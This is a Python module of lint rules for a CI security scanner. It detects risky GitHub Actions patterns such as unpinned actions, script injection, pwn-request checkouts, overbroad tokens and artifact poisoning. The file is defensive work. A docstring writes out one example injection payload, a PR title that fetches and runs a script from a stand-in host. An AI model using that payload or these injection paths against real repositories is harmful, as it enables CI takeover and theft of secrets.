"""GitHub Actions hygiene (layer 2): pinning, injection, triggers, token scope, runners."""

from __future__ import annotations

import re
from collections.abc import Iterator

from kubeward.model.image import parse_image
from kubeward.model.workflow import (
    PR_TRIGGERS,
    PRIVILEGED_TRIGGERS,
    Job,
    Step,
    Uses,
    Workflow,
    expressions,
)
from kubeward.parse.yamlnode import YNode
from kubeward.registry import Finding, Layer, Related, Severity, rule

GHA_SECURITY = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"

# Contexts whose value whoever opens an issue, PR, comment, review or commit chooses.
ATTACKER_CONTROLLED = re.compile(
    r"^(?:github\.head_ref"
    r"|github\.event\.(?:"
    r"issue\.(?:title|body)"
    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))"
    r"|(?:comment|review|review_comment|discussion|discussion_comment)\.body"
    r"|discussion\.title"
    r"|pages\.[^.\s]+\.page_name"
    r"|(?:commits\.[^.\s]+|head_commit|workflow_run\.head_commit|merge_group\.head_commit)"
    r"\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|display_title|pull_requests\.[^.\s]+\.head\.ref)"
    r"))$"
)
_CTX_RE = re.compile(r"github\.[A-Za-z0-9_.*\[\]'\"-]+")


def attacker_contexts(expr: str) -> list[str]:
    """The attacker-controllable contexts an expression reads (index syntax normalised)."""
    out = []
    for m in _CTX_RE.finditer(expr):
        ctx = re.sub(r"\[['\"]([^'\"]+)['\"]\]", r".\1", m.group(0)).rstrip(".")
        ctx = re.sub(r"\[\d+\]|\[\*\]", ".*", ctx)
        if ATTACKER_CONTROLLED.match(ctx):
            out.append(ctx)
    return out


@rule(
    id="action-not-pinned-to-sha",
    layer=Layer.BUILD,
    severity=Severity.HIGH,
    references=(
        GHA_SECURITY + "#using-third-party-actions",
        "https://slsa.dev/spec/v1.0/threats#e-compromise-build-process",
    ),
)
def action_not_pinned_to_sha(wf: Workflow) -> Iterator[Finding]:
    """Action or reusable workflow is not pinned to a full commit SHA.

    A tag (`@v4`) or a branch (`@main`) is a pointer the action's owner, or whoever takes over
    their account, can move to new code that then runs with your token and secrets. Only a full
    40-hex commit SHA is immutable. Local actions (`./path`) come from your own repository and
    are exempt; `docker://` actions must name an image digest.

    ## Why it matters
    Moved tags are how tj-actions/changed-files (CVE-2025-30066) leaked the secrets of
    thousands of repositories: every workflow using `@v35` ran the attacker's commit.

    ## Remediation
    Pin the SHA the tag points to and keep the tag as a comment, so Dependabot or Renovate can
    update both:

        - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2

    ## Example
        # bad
        - uses: actions/checkout@v4
        # good
        - uses: ./.github/actions/setup
    """
    uses: list[Uses] = [j.uses for j in wf.jobs if j.uses is not None]
    uses += [s.uses for j in wf.jobs for s in j.steps if s.uses is not None]
    for u in uses:
        if u.span is None or u.kind == "local":
            continue
        if u.kind == "docker":
            ref = parse_image(u.path)
            if ref.templated or ref.digest is not None:
                continue
            yield Finding(
                u.span,
                f"{u.text} is not pinned to an image digest; use docker://IMAGE@sha256:<digest>",
            )
            continue
        if "${{" in u.text:
            continue
        if (
            u.path.startswith(".github/workflows/generator_")
            and u.owner == "slsa-framework"
            and (re.fullmatch(r"v\d+\.\d+\.\d+", u.ref or ""))
        ):
            continue  # slsa-github-generator must be called by release tag (its verifier checks it)
        if u.ref is None:
            yield Finding(u.span, f"{u.text} names no ref; pin a full commit SHA")
        elif not u.is_sha_pinned:
            what = (
                "a short SHA"
                if re.fullmatch(r"[0-9a-f]{7,39}", u.ref)
                else f"the mutable ref '{u.ref}'"
            )
            yield Finding(
                u.span,
                f"{u.text} uses {what}; pin a full 40-hex commit SHA "
                f"(keep '# {u.ref}' as a comment)",
            )


# Action inputs that the action runs as code (script, shell command or expression).
CODE_INPUTS: dict[str, tuple[str, ...]] = {
    "actions/github-script": ("script",),
    "amadevus/pwsh-script": ("script",),
    "mikefarah/yq": ("cmd",),
    "addnab/docker-run-action": ("run",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "cardinalby/js-eval-action": ("expression",),
    # lodash templates: `<%= %>` in the expanded text runs as JavaScript
    "tibdex/backport": ("title_template", "body_template"),
}


def _shell_nodes(step: Step) -> Iterator[tuple[YNode, str]]:
    """Scalars that are executed as code: `run:`, and code inputs of actions that run them."""
    if step.run is not None and step.run.is_scalar:
        yield step.run, "run:"
    if step.uses is None or step.uses.kind != "repo" or step.with_ is None:
        return
    keys = CODE_INPUTS.get(step.uses.action, ())
    for k, v in step.with_.items():
        if k.is_scalar and str(k.value).lower() in keys and v.is_scalar:
            yield v, f"{step.uses.action} {k.value}:"


@rule(
    id="template-injection",
    layer=Layer.BUILD,
    severity=Severity.CRITICAL,
    references=(
        GHA_SECURITY + "#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ),
)
def template_injection(wf: Workflow) -> Iterator[Finding]:
    """Attacker-controllable context expanded inline in a script.

    `${{ }}` is substituted into the script text before the shell parses it, and likewise into
    action inputs that are run as code (`actions/github-script`'s `script`, `mikefarah/yq`'s
    `cmd`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`...). An issue title,
    PR title or body, branch name, comment or commit message is chosen by whoever opens it, so a
    title such as `"; curl evil.sh | sh; #` becomes code running with the job's token and
    secrets. Passing the value through `env:` and quoting
    the variable (`"$TITLE"`) keeps it data, and is not flagged; expanding that variable again
    as `${{ env.TITLE }}` is the same injection, and is. Expressions whose value is true or
    false (`contains(github.head_ref, 'x')`, `github.event.issue.title == 'y'`) carry no text
    and are not flagged; `a || b` yields an operand and is. An expression repeated in several
    steps through a YAML alias is reported once.

    ## Why it matters
    Script injection through PR titles and branch names is the most common way public
    workflows are taken over; on `pull_request_target` and `issue_comment` it runs with a write
    token and secrets.

    ## Remediation
    Move the value into an environment variable and reference it quoted:

        - env:
            TITLE: ${{ github.event.pull_request.title }}
          run: echo "$TITLE"
    """
    seen: set[tuple[int, int]] = set()  # a YAML alias repeats one expression in many steps
    for job in wf.jobs:
        for step in job.steps:
            for node, where in _shell_nodes(step):
                for e in expressions(wf.file, node):
                    at = (e.span.start.offset, e.span.end.offset)
                    if at in seen or _is_boolean(e.text):
                        continue
                    seen.add(at)
                    ctxs = list(dict.fromkeys(attacker_contexts(e.text)))
                    if ctxs:
                        are = "is" if len(ctxs) == 1 else "are"
                        yield Finding(
                            e.span,
                            f"{' and '.join(ctxs)} {are} expanded into {where} of {step.label} "
                            f"in job {job.id}; pass it through env: and quote the variable",
                            properties={"context": ctxs[0], "contexts": ctxs},
                        )
                    for name in _ENV_REF.findall(e.text):
                        source = _env_value(step, name)
                        if source is None:
                            continue
                        tainted = [
                            c
                            for x in expressions(wf.file, source)
                            for c in attacker_contexts(x.text)
                        ]
                        if tainted:
                            yield Finding(
                                e.span,
                                f"env.{name} holds {tainted[0]} and is expanded into {where} of "
                                f"{step.label} in job {job.id}; use the shell variable "
                                f'"${name}" instead of ${{{{ env.{name} }}}}',
                                related=(Related(source.span, f"env.{name} is set here"),),
                                properties={"context": tainted[0]},
                            )


_ENV_REF = re.compile(r"\benv\.([A-Za-z_][A-Za-z0-9_-]*)")
_STRING_LIT = re.compile(r"'(?:[^']|'')*'")
_COMPARISON = re.compile(r"==|!=|<=|>=|<|>|^!")
_BOOL_CALL = re.compile(r"^(?:contains|startsWith|endsWith)\((.*)\)$", re.S)


def _is_boolean(expr: str) -> bool:
    """An expression whose value is true or false (a comparison, `!x`, `contains(...)`), which
    cannot carry text into the script whatever the context holds. `a || b` and `a && b` are
    not: they yield one of their operands (`cond && x || y` is the ternary idiom)."""
    body = _STRING_LIT.sub("''", expr).strip()
    if "&&" in body or "||" in body:
        return False
    m = _BOOL_CALL.match(body)
    if m is not None:
        depth = 0
        for ch in m.group(1):  # the call must span the whole expression
            depth += {"(": 1, ")": -1}.get(ch, 0)
            if depth < 0:
                return False
        return True
    return _COMPARISON.search(body) is not None


def _env_value(step: Step, name: str) -> YNode | None:
    """The value `env.NAME` has in a step: the step's env, else the job's, else the workflow's."""
    for env in (step.env, step.job.env, step.workflow.env):
        if env is not None and env.is_map:
            v = env.get(name)
            if v is not None:
                return v
    return None


_HEAD_REF = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
    r"|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(?:sha|branch)"
    r"|github\.event\.pull_request\.number|github\.event\.number"
)
_HEAD_RUN = re.compile(
    r"\bgh\s+pr\s+checkout\b|git\s+fetch\b[^\n]*\bpull/|refs/pull/|git\s+(?:checkout|switch)\s+[^\n]*\$\{\{\s*github\.(?:head_ref|event\.(?:pull_request|workflow_run))"
)


@rule(
    id="dangerous-trigger-checkout",
    layer=Layer.BUILD,
    severity=Severity.CRITICAL,
    references=(
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
        "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target",
    ),
)
def dangerous_trigger_checkout(wf: Workflow) -> Iterator[Finding]:
    """Privileged-trigger workflow checks out the untrusted pull request head.

    `pull_request_target`, `workflow_run` and `issue_comment` run in the base repository's
    context, with a write token and secrets, even for pull requests from forks (`issue_comment`
    for a comment on any pull request: the usual `/ok-to-test` bot). Checking out the PR head
    (`ref: ${{ github.event.pull_request.head.sha }}`,
    `gh pr checkout`, `refs/pull/N/merge`) and then building or testing it runs the fork's code
    with those privileges: a "pwn request". A `pull_request_target` workflow that only labels
    or comments, without the head's code, is not flagged.

    ## Why it matters
    Any GitHub user can open a pull request; the build scripts, tests and tool configuration
    of the checked-out head then run with the repository's secrets.

    ## Remediation
    Build untrusted code under `pull_request` (no secrets, read-only token) and pass results to
    a privileged `workflow_run` workflow as data (artifacts you parse, never execute). If the
    head must be checked out, do not run anything from it and set `persist-credentials: false`.
    """
    triggers = sorted(t for t in PRIVILEGED_TRIGGERS if wf.has_trigger(t))
    if wf.is_action or not triggers:
        return
    trig = wf.triggers[triggers[0]]
    related = (Related(trig.span, f"triggered by {triggers[0]}"),) if trig is not None else ()
    for job in wf.jobs:
        for step in job.steps:
            if step.uses is not None and step.uses.is_action("actions/checkout"):
                for key in ("ref", "repository"):
                    n = step.input(key)
                    if n is None or not n.is_scalar:
                        continue
                    text = n.text or ""
                    if (
                        _HEAD_REF.search(text)
                        or "refs/pull/" in text
                        or (key == "repository" and "head.repo" in text)
                    ):
                        yield Finding(
                            n.span,
                            f"job {job.id} checks out the untrusted head ({key}: {text.strip()}) "
                            f"in a {triggers[0]} workflow",
                            related=related,
                        )
                        break
            elif step.run is not None and (m := _HEAD_RUN.search(step.run_text)):
                span = wf.file.find_span(
                    m.group(0).split("\n")[0],
                    first_line=step.run.start.line,
                    last_line=step.run.end.line,
                )
                yield Finding(
                    span,
                    f"job {job.id} fetches the untrusted pull request head "
                    f"in a {triggers[0]} workflow",
                    related=related,
                )


@rule(
    id="missing-token-permissions",
    layer=Layer.BUILD,
    severity=Severity.MEDIUM,
    references=(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#permissions-for-the-github_token",
    ),
)
def missing_token_permissions(wf: Workflow) -> Iterator[Finding]:
    """Workflow declares no `permissions:`, so its jobs get the default token scope.

    Without a `permissions:` block the `GITHUB_TOKEN` gets the repository's or organisation's
    default, which is read-write on every scope for repositories created before February 2023
    and for many organisations. A job without its own block and a workflow without a top-level
    one leaves that decision to a setting nobody reviews with the code. Reusable workflows
    (`on: workflow_call` only) are exempt: they get the caller's token, which is where to
    narrow it.

    ## Why it matters
    Any step compromised in such a job (an action, a dependency, an injected script) can push
    commits, publish releases and packages, and rewrite workflows with the token.

    ## Remediation
    Start from nothing at the top and grant each job what it needs:

        permissions: {}
        jobs:
          build:
            permissions:
              contents: read
    """
    if wf.is_action or wf.permissions is not None:
        return
    if set(wf.triggers) == {"workflow_call"}:
        return  # a reusable workflow gets its caller's token (it can only narrow it)
    bare = [j for j in wf.jobs if j.permissions is None]
    if not bare:
        return
    key = wf.node.key_node("jobs")
    span = key.span if key is not None else wf.on_span
    names = ", ".join(j.id for j in bare)
    yield Finding(
        span,
        f"no permissions: at workflow level and none on job(s) {names}: they run with the "
        "default GITHUB_TOKEN scope (possibly write-all)",
        related=tuple(Related(j.name_span, f"job {j.id} has no permissions:") for j in bare[:5]),
    )


# Steps that use the OIDC token or push packages (conservative: any third-party action may).
_OIDC_RUN = re.compile(
    r"\bcosign\b|ACTIONS_ID_TOKEN_REQUEST|--provenance|\bgetIDToken\b|sigstore"
    r"|\b(?:npm|pnpm|bun|yarn(?:\s+npm)?)\s+publish\b|\b(?:twine|uv|poetry)\s+(?:upload|publish)\b"
    r"|\bcargo\s+publish\b|\bgem\s+push\b|\bvault\b|\b(?:aws|gcloud|az)\b"
)
_PUSH_RUN = re.compile(
    r"\b(?:docker|podman|buildah|helm|crane|oras|skopeo)\b[^\n]*\b(?:push|login|copy|cp|publish)\b|\bko\b\s+(?:build|publish|resolve|apply)|ghcr\.io|npm\s+publish|\bgh\b|dotnet\s+nuget\s+push|mvn\b[^\n]*deploy|gradle\b[^\n]*publish"
)


def _only_plain_steps(job: Job) -> bool:
    """A job whose steps are `run:` scripts and GitHub's own basic actions (none of which
    reach for an OIDC token or a package registry by themselves)."""
    if job.uses is not None:
        return False
    for s in job.steps:
        if s.uses is None:
            continue
        a = s.uses.action
        if (
            s.uses.kind != "repo"
            or not a.startswith("actions/")
            or a.startswith(("actions/attest", "actions/github-script"))
        ):
            return False
    return True


@rule(
    id="excessive-permissions",
    layer=Layer.BUILD,
    severity=Severity.HIGH,
    references=(
        "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions",
    ),
)
def excessive_permissions(wf: Workflow) -> Iterator[Finding]:
    """Token permissions broader than the job needs: `write-all`, or a write it never uses.

    `permissions: write-all` grants every scope. `id-token: write` lets any step mint an OIDC
    token for cloud roles and keyless signing; `packages: write` lets any step publish packages.
    A job whose steps are only `run:` scripts and GitHub's basic `actions/*` and that neither
    signs, attests, logs in to a registry nor pushes does not need those two (jobs calling
    other actions are given the benefit of the doubt).

    ## Why it matters
    The token's scope is the blast radius of any compromised step in the job.

    ## Remediation
    Grant per job only what it uses:

        permissions:
          contents: read
    """
    scopes: list[tuple[YNode, str]] = []
    if wf.permissions is not None:
        scopes.append((wf.permissions, "workflow"))
    scopes += [(j.permissions, f"job {j.id}") for j in wf.jobs if j.permissions is not None]
    workflow_grants: dict[str, tuple[YNode, list[tuple[str, bool]]]] = {}
    # A workflow-level grant reaches only the jobs without their own `permissions:`.
    workflow_reaches = any(j.permissions is None for j in wf.jobs) or wf.is_action
    for node, where in scopes:
        if where == "workflow" and not workflow_reaches:
            continue
        if node.is_scalar and (node.text or "").strip() == "write-all":
            yield Finding(
                node.span, f"{where} grants write-all: every scope of the GITHUB_TOKEN is writable"
            )
    for job in wf.jobs:
        perms = job.effective_permissions()
        inherited = perms is not job.permissions
        if perms is None or not perms.is_map:
            continue
        run = "\n".join(s.run_text for s in job.steps)
        plain = _only_plain_steps(job)
        for scope, pattern in (("id-token", _OIDC_RUN), ("packages", _PUSH_RUN)):
            v = perms.get(scope)
            if v is None or (v.text or "").strip() != "write":
                continue
            unused = plain and not pattern.search(run)
            if inherited:
                # One finding on the workflow's grant, when no job it reaches uses it.
                workflow_grants.setdefault(scope, (v, []))[1].append((job.id, unused))
            elif unused:
                yield Finding(v.span, f"job {job.id} grants {scope}: write but no step uses it")
    for scope, (v, reached) in workflow_grants.items():
        if all(unused for _, unused in reached):
            names = ", ".join(j for j, _ in reached)
            yield Finding(
                v.span, f"the workflow grants {scope}: write to job(s) {names}, which do not use it"
            )


@rule(
    id="secrets-inherit",
    layer=Layer.BUILD,
    severity=Severity.MEDIUM,
    references=(
        "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
    ),
)
def secrets_inherit(job: Job) -> Iterator[Finding]:
    """Reusable workflow is called with `secrets: inherit`.

    `inherit` hands every secret of the calling repository (and organisation) to the called
    workflow, whatever it needs. A change to that workflow, or to any action it calls, can then
    read all of them.

    ## Why it matters
    Least privilege for secrets: the blast radius of the called workflow becomes every secret
    you hold, not the one or two it uses.

    ## Remediation
    Pass the secrets the workflow declares, by name:

        uses: ./.github/workflows/deploy.yml
        secrets:
          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}
    """
    s = job.node.get("secrets")
    if (
        job.uses is not None
        and s is not None
        and s.is_scalar
        and (s.text or "").strip() == "inherit"
    ):
        yield Finding(s.span, f"job {job.id} passes every secret to {job.uses.text}")


_UPLOADS = ("actions/upload-artifact", "actions/upload-pages-artifact")
_VERSION_RE = re.compile(r"\bv?(\d+)(?:\.(\d+))?(?:\.\d+)?\b")
_BROAD_PATHS = frozenset(
    {
        ".",
        "./",
        "*",
        "**",
        "./*",
        "./**",
        "${{ github.workspace }}",
        "${{github.workspace}}",
        "$GITHUB_WORKSPACE",
        "${GITHUB_WORKSPACE}",
    }
)


def _version(step: Step) -> tuple[int, int] | None:
    """The action's version from its ref (`@v4.4.0`) or the pin comment (`@<sha> # v4.4.0`)."""
    u = step.uses
    if u is None or u.span is None:
        return None
    text = u.ref or ""
    if u.is_sha_pinned:
        line = step.file.line_text(u.span.start.line)
        text = line.split("#", 1)[1] if "#" in line else ""
    m = _VERSION_RE.search(text)
    return (int(m.group(1)), int(m.group(2) or 0)) if m else None


def _leaky_upload(step: Step) -> str | None:
    """Why an upload step may include `.git/config` (None: it cannot)."""
    path = (step.input_str("path") or "").strip()
    lines = [
        ln.strip() for ln in path.splitlines() if ln.strip() and not ln.strip().startswith("!")
    ]
    broad = [ln for ln in lines if ln in _BROAD_PATHS or ".git" in ln.split("/")]
    if not broad:
        return None
    hidden = step.input("include-hidden-files")
    if hidden is not None and hidden.bool is False:
        return None
    if hidden is not None and hidden.bool is True:
        return f"uploads {broad[0]} with include-hidden-files: true"
    v = _version(step)
    if (
        step.uses is not None
        and step.uses.is_action("actions/upload-artifact")
        and v
        and v >= (4, 4)
    ):
        return None  # upload-artifact >= 4.4 leaves hidden files (.git) out by default
    return f"uploads {broad[0]}, hidden files included"


@rule(
    id="persisted-checkout-credentials",
    layer=Layer.BUILD,
    severity=Severity.MEDIUM,
    references=(
        "https://github.com/actions/checkout#usage",
        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
        "https://github.com/actions/upload-artifact#uploading-hidden-files",
    ),
)
def persisted_checkout_credentials(job: Job) -> Iterator[Finding]:
    """Checkout keeps its token in `.git/config` in a job that uploads the checkout.

    `actions/checkout` writes the `GITHUB_TOKEN` into `.git/config` unless
    `persist-credentials: false`. When the job then uploads the workspace (`path: .`, the
    workspace variable, or a path into `.git`) as an artifact with hidden files included,
    anyone who can download the artifacts gets the token ("ArtiPACKED"). Uploads of a build
    output directory, `include-hidden-files: false`, and `actions/upload-artifact` v4.4 or later
    without `include-hidden-files: true` (it leaves hidden files out) are not flagged.

    ## Why it matters
    Artifacts of public repositories are public; a leaked token is valid until the job ends
    and can push to the repository.

    ## Remediation
        - uses: actions/checkout@<sha> # v4
          with:
            persist-credentials: false
    """
    uploads = [
        (s, why)
        for s in job.steps
        if s.uses is not None and s.uses.is_action(*_UPLOADS) and (why := _leaky_upload(s))
    ]
    if not uploads:
        return
    last, why = uploads[-1]
    for s in job.steps:
        if s.uses is None or not s.uses.is_action("actions/checkout") or s.uses.span is None:
            continue
        if s.index > last.index:
            continue
        p = s.input("persist-credentials")
        if p is not None and p.bool is False:
            continue
        related = (
            (Related(last.uses.span, "artifact uploaded here"),)
            if last.uses and last.uses.span
            else ()
        )
        yield Finding(
            s.uses.span,
            f"{s.label} persists the token in .git/config and job {job.id} {why}",
            related=related,
        )


@rule(
    id="self-hosted-runner-on-pr",
    layer=Layer.BUILD,
    severity=Severity.HIGH,
    references=(GHA_SECURITY + "#hardening-for-self-hosted-runners",),
)
def self_hosted_runner_on_pr(job: Job) -> Iterator[Finding]:
    """Self-hosted runner runs jobs triggered by pull requests.

    A pull request (or a comment on one) from anyone runs code on the self-hosted machine.
    Unlike GitHub-hosted runners, self-hosted ones are usually not ephemeral: the code can
    persist on the machine, read other jobs' secrets and caches, and reach the internal network.

    ## Why it matters
    GitHub advises never to use self-hosted runners with public repositories; the same holds
    for any workflow outsiders can trigger.

    ## Remediation
    Run pull-request jobs on GitHub-hosted runners, or on ephemeral, isolated self-hosted
    runners (one VM per job, `--ephemeral`) in a runner group restricted to trusted workflows:

        runs-on: ubuntu-24.04
    """
    wf = job.workflow
    trig = [t for t in PR_TRIGGERS if wf.has_trigger(t)]
    if wf.is_action or not trig or not job.is_self_hosted:
        return
    labels = job.runner_labels()
    node = next((n for t, n in labels if t.lower() == "self-hosted"), labels[0][1])
    yield Finding(
        node.span,
        f"job {job.id} runs on a self-hosted runner and is triggered by {sorted(trig)[0]}",
    )


def _truthy(n: YNode) -> bool:
    return n.bool is True or (n.text or "").strip().lower() in ("true", "1", "yes")


@rule(
    id="insecure-commands-enabled",
    layer=Layer.BUILD,
    severity=Severity.HIGH,
    references=(
        "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
    ),
)
def insecure_commands_enabled(wf: Workflow) -> Iterator[Finding]:
    """`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env` and `add-path`.

    The deprecated workflow commands let any text a step prints to its log set environment
    variables and `PATH` for later steps. Anything that ends up in the log (a PR title, a
    dependency's output) can then inject `LD_PRELOAD`, `NODE_OPTIONS` or a path to a hostile
    binary.

    ## Why it matters
    GitHub disabled these commands in 2020 because of this injection (CVE-2020-15228).

    ## Remediation
    Remove the variable and write to `$GITHUB_ENV` and `$GITHUB_PATH` files instead:

        run: echo "DIR=$PWD/bin" >> "$GITHUB_ENV"
    """
    envs: list[YNode] = [e for e in (wf.env, *(j.env for j in wf.jobs)) if e is not None]
    envs += [s.env for j in wf.jobs for s in j.steps if s.env is not None]
    for env in envs:
        for k, v in env.items():
            if k.is_scalar and k.value == "ACTIONS_ALLOW_UNSECURE_COMMANDS" and _truthy(v):
                yield Finding(
                    k.span, "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path"
                )


# --- artifacts of the triggering run in a workflow_run workflow -------------------------------

_ROOT_PATHS = frozenset({"", ".", "./", "${{github.workspace}}", "$GITHUB_WORKSPACE"})
# Commands that run what the workspace holds (build files a root-extracted artifact overwrites).
_RUNS_WORKSPACE = re.compile(
    r"(?:^|[;&|(])[ \t]*(?:sudo\s+(?:-\S+\s+)*)?(?:"
    r"\./[\w.-][^\s;&|)]*"
    r"|(?:ba|z)?sh\s+(?!-c\b)[\w./-]+|source\s+\S+|\.\s+[\w./-]+"
    r"|python3?\s+(?!-[cm]\b)[\w./-]+\.py|node\s+[\w./-]+\.m?js"
    r"|make\b|npm\s+(?:install|ci|run|test|start)\b|yarn\b|pnpm\s+(?:install|run|test)\b"
    r"|pip3?\s+install\s+(?:-r\s+\S+|-e\s+\S+|\.(?:\s|$))|go\s+(?:run|generate|test)\b"
    r"|mvn\b|\./gradlew\b|gradle\b|cargo\s+(?:build|run|test)\b"
    r")",
    re.M,
)
_TO_ENV = re.compile(r">>\s*\"?\$\{?GITHUB_(?:ENV|PATH)\b")


def _download_from_run(step: Step) -> tuple[str, str] | None:
    """(how, destination path) when the step downloads artifacts of the triggering run."""
    u = step.uses
    if u is not None and u.is_action("actions/download-artifact"):
        run_id = step.input_str("run-id") or ""
        if "workflow_run" in run_id:
            return "actions/download-artifact", (step.input_str("path") or "")
        return None
    if u is not None and u.is_action("dawidd6/action-download-artifact"):
        return "dawidd6/action-download-artifact", step.input_str("path") or ""
    if u is not None and u.is_action("actions/github-script"):
        script = step.input_str("script") or ""
        if "downloadArtifact" in script and "workflow_run" in script:
            return "actions/github-script downloadArtifact", ""
        return None
    m = re.search(r"\bgh\s+run\s+download\b[^\n]*", step.run_text)
    if m is not None:
        d = re.search(r"(?:-D|--dir)[= ]\s*(\S+)", m.group(0))
        return "gh run download", d.group(1) if d else ""
    return None


def _executes(text: str, path: str) -> re.Match[str] | None:
    """Where a script runs something from `path` (the workspace root when `path` is root)."""
    text = re.sub(r"\$\{\{\s*github\.workspace\s*\}\}/?", "", text)
    if path in _ROOT_PATHS:
        return _RUNS_WORKSPACE.search(text) or _TO_ENV.search(text)
    p = re.escape(path.strip("'\"").removeprefix("./").rstrip("/"))
    target = rf"['\"]?(?:\./)?{p}/[^\s;&|)'\"]+"
    # Run by an interpreter anywhere, or as the command itself (reading it with cat/jq is data).
    use = re.compile(
        rf"\b(?:(?:ba|z)?sh|source|python3?|node|perl|ruby|chmod\s+\+x)\s+{target}"
        rf"|(?:^|[;&|(])[ \t]*(?:\.\s+)?{target}",
        re.M,
    )
    m = use.search(text)
    if m is not None:
        return m
    line = next((ln for ln in text.splitlines() if p and re.search(p, ln)), None)
    if line is not None and _TO_ENV.search(line):
        return re.search(re.escape(line.strip()), text)
    return None


@rule(
    id="workflow-run-artifact-poisoning",
    layer=Layer.BUILD,
    severity=Severity.HIGH,
    references=(
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
        "https://github.com/actions/download-artifact#download-artifacts-from-other-workflow-runs-or-repositories",
    ),
)
def workflow_run_artifact_poisoning(wf: Workflow) -> Iterator[Finding]:
    """`workflow_run` workflow downloads the triggering run's artifacts, then executes them.

    A `workflow_run` workflow runs with the base repository's token and secrets after another
    workflow finishes, including a `pull_request` run from a fork. The artifacts of that run
    were written by the fork's code: downloading them (`actions/download-artifact` with
    `run-id: ${{ github.event.workflow_run.id }}`, `dawidd6/action-download-artifact`,
    `gh run download`, `github-script`'s `downloadArtifact`) is safe only while they stay data.
    Running a script from the artifact, or extracting it into the workspace root and then
    running a build (`make`, `npm install`, `./script`: the artifact may overwrite those files),
    or appending it to `$GITHUB_ENV`, runs the fork's code with the privileges.

    ## Why it matters
    This is the pwn-request pattern through artifacts: a pull request from any GitHub user
    gets the privileged workflow's secrets and write token.

    ## Remediation
    Download into a dedicated directory outside the checkout, treat the content as untrusted
    data (validate it, e.g. a PR number with a regular expression), and never execute it:

        - uses: actions/download-artifact@<sha> # v4
          with:
            run-id: ${{ github.event.workflow_run.id }}
            github-token: ${{ github.token }}
            path: ${{ runner.temp }}/artifacts
        - run: |
            pr=$(cat "$RUNNER_TEMP/artifacts/pr-number")
            [[ "$pr" =~ ^[0-9]+$ ]] || exit 1
    """
    if wf.is_action or not wf.has_trigger("workflow_run"):
        return
    trig = wf.triggers["workflow_run"]
    trig_rel = (Related(trig.span, "triggered by workflow_run"),) if trig is not None else ()
    for job in wf.jobs:
        download: tuple[Step, str, str] | None = None
        for step in job.steps:
            got = _download_from_run(step)
            if got is not None:
                download = (step, got[0], got[1])
                if step.run is None:
                    continue
            if download is None:
                continue
            dstep, how, path = download
            where = "the workspace root" if path in _ROOT_PATHS else path
            rel = (Related(dstep.node.span, f"{how} into {where}"), *trig_rel)
            if step.uses is not None and step.uses.kind == "local":
                local = step.uses.text.removeprefix("./")
                if path in _ROOT_PATHS or local.startswith(path.removeprefix("./").rstrip("/")):
                    yield Finding(
                        step.uses.span or step.node.span,
                        f"job {job.id} runs the local action {step.uses.text} after {how} "
                        f"extracted the triggering run's artifacts into {where}",
                        related=rel,
                    )
            if step.run is None or (step is dstep and "gh run download" not in how):
                continue
            text = step.run_text
            skipped = 0  # lines of the script before the part searched
            if step is dstep:
                after = text.find("\n", text.find("gh run download"))
                skipped = text[: after + 1].count("\n") if after >= 0 else len(text)
                text = text[after + 1 :] if after >= 0 else ""
            m = _executes(text, path)
            if m is None:
                continue
            needle = m.group(0).lstrip(";&|( \t\n").split("\n", 1)[0].strip()
            # The line of the match: block scalars (`|`, `>`) start on the line after the key.
            block = wf.file.text[step.run.start.offset : step.run.start.offset + 1] in "|>"
            line = step.run.start.line + int(block) + skipped
            line += text[: m.start() + len(m.group(0)) - len(m.group(0).lstrip(";&|( \t\n"))].count(
                "\n"
            )
            span = wf.file.find_span(needle, first_line=line, last_line=step.run.end.line)
            yield Finding(
                span,
                f"job {job.id} runs `{needle}` after {how} put the triggering run's artifacts "
                f"in {where}; a fork's pull request can write those artifacts",
                related=rel,
            )
